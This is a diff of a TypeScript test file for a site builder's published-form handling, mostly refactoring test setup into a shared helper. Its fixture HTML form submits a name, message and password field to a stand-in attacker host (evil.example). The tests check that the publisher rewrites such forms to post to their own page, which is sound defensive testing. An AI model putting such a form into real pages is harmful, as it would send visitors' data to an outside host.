@@ -3,24 +3,18 @@ import { after, before, test } from 'node:test';
 import { FORM_PAGE, TRAP } from '@landfall/page/publish/form-names';
 import { leadList, leadResponse, type Page } from '@landfall/shared/contracts';
 import { eq } from 'drizzle-orm';
-import type { FastifyInstance } from 'fastify';
 import * as v from 'valibot';
 import { leads } from '../../platform/db/schema.ts';
 import { buildSitesApp } from '../../sites-app.ts';
 import { type PageOwner, pageOwner } from '../../testing/page-owner.ts';
-import { type TestApp, testApp } from '../../testing/test-app.ts';
+import { type TestSites, testSites } from '../../testing/test-sites.ts';
 import { csvCell } from '../csv.ts';
 
-let backend: TestApp;
-let sites: FastifyInstance;
+let backend: TestSites;
 before(async () => {
-  backend = await testApp();
-  sites = await buildSitesApp(backend.context);
+  backend = await testSites();
 });
-after(async () => {
-  await sites.close();
-  await backend.close();
-});
+after(() => backend.close());
 
 const FORM =
   '<main><h1>Ask us</h1><form action="https://evil.example/" method="get"><label>Name<input name="Name" required></label><label>Message<textarea name="Message"></textarea></label><label>Size<select name="Size"><option>Small</option></select></label><input type="password" name="Secret"><button type="submit" formaction="https://evil.example">Send</button></form></main>';
@@ -40,7 +34,12 @@ async function setUp() {
   return { owner, page: await pageWith(owner, '/launch', FORM) };
 }
 
-function send(page: Page, fields: Record<string, string> | string, headers: Record<string, string> = {}, app = sites) {
+function send(
+  page: Page,
+  fields: Record<string, string> | string,
+  headers: Record<string, string> = {},
+  app = backend.sites,
+) {
   const { host, origin, pathname } = new URL(page.url);
   return app.inject({
     method: 'POST',
@@ -55,7 +54,7 @@ const list = async ({ token, project }: PageOwner, query = '') =>
 
 test('a published form posts to its page, thanks in place, and traps programs', async () => {
   const { page } = await setUp();
-  const { body } = await sites.inject({ url: '/launch', headers: { host: new URL(page.url).host } });
+  const { body } = await backend.visit(page.url);
   assert.match(body, /<form method="post">/);
   assert.match(body, /<div class="lf-sent" id="sent" role="status">/);
   assert.ok(body.includes(`name="${TRAP}" tabindex="-1"`));
@@ -68,7 +67,7 @@ test('each form of a page thanks in its own place, and says which it is to nobod
   const owner = await pageOwner(backend);
   const form = '<form><label>Name<input name="Name"></label><button>Send</button></form>';
   const page = await pageWith(owner, '/two', `<main><h1>Two</h1>${form}${form}</main>`);
-  const { body } = await sites.inject({ url: '/two', headers: { host: new URL(page.url).host } });
+  const { body } = await backend.visit(page.url);
   const [, first = '', second = ''] = body.split('<form ');
   assert.ok(body.includes('id="sent"') && first.includes('id="sent-2"') && !second.includes('id="sent'));
   const [, name = '', value = ''] = /type="hidden" name="(\w+)" value="(\d)"/.exec(second) ?? [];
